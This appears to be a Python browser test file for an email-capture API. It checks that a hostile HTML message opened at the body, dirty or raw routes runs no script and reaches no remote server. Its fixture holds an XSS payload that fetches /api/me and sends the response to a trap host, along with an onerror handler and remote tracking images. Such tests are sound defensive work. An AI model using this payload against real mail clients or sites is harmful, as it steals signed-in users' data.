"""
The API's routes that serve a message's own bytes (M9 body, M10 dirty, A2
attachments, M7 raw), opened in a real browser: a hostile message runs
nothing and loads nothing remote, so it cannot act on the API with a
signed-in reader's session cookie.
"""

from __future__ import annotations

import secrets
from typing import TYPE_CHECKING

import pytest

from tests.browser import PageLog, RemoteTrap, assertNoScriptRan, origin
from tests.harness import CaptureServer

if TYPE_CHECKING:
    from playwright.sync_api import Page

_HOSTILE = """\
From: Mallory <mallory@example.net>
To: {to}
Subject: hostile
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<p id="hostile">hostile</p>
<script>window.__pwned = "script"; fetch("/api/me").then(r => r.text()).then(t =>
  fetch("{trap}/stolen?" + encodeURIComponent(t)));</script>
<img alt="" src="data:," onerror="window.__pwned = 'onerror'">
<img alt="" src="{trap}/pixel.png">
<div style="background: url({trap}/css.png)">styled</div>
"""


@pytest.mark.parametrize("route", ["dirty", "body", "raw"])
def test_hostileMessageRunsNothing(server: CaptureServer, page: Page, pageLog: PageLog,
                                   remoteTrap: RemoteTrap, route: str) -> None:
    """
    Opened directly at its API URL, a message with a script, an event
    handler, a remote image and CSS url() tracking runs none of it and
    reaches no remote server.
    """
    address = f"hostile-{secrets.token_hex(5)}@example.com"
    message = _HOSTILE.format(to=address, trap=remoteTrap.url("").rstrip("/"))
    client = server.smtp()
    client.sendmail("mallory@example.net", [address], message.replace("\n", "\r\n").encode())
    client.quit()
    page.goto(f"{origin(server)}/api/addresses/{address}/messages")
    messageId = page.evaluate("() => JSON.parse(document.body.innerText)[0]._id")
    page.goto(f"{origin(server)}/api/{route}/{address}/{messageId}")
    if route == "dirty":
        assert page.locator("#hostile").inner_text() == "hostile"
    assertNoScriptRan(page)
    page.wait_for_timeout(200)
    assert remoteTrap.requests() == []
